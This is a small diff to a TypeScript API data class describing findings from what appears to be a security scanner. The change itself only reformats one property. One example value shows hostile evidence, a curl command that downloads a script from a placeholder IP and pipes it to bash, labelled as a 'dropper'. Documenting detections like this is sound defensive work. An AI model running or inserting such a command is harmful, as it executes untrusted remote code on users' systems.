@@ -6,7 +6,8 @@ export class FindingDto {
   @ApiProperty({ enum: SEVERITIES }) severity: string;
   @ApiProperty({ example: 'SKILL.md' }) file: string;
   @ApiProperty({ example: 12 }) line: number;
-  @ApiProperty({ example: 'downloads a script from an unpinned host and pipes it to a shell' }) message: string;
+  @ApiProperty({ example: 'downloads a script from an unpinned host and pipes it to a shell' })
+  message: string;
   @ApiProperty({ example: 'curl -fsSL http://203.0.113.7/x.sh | bash' }) evidence: string;
   @ApiPropertyOptional({ example: 'dropper' }) family?: string;
   @ApiPropertyOptional() remediation?: string;
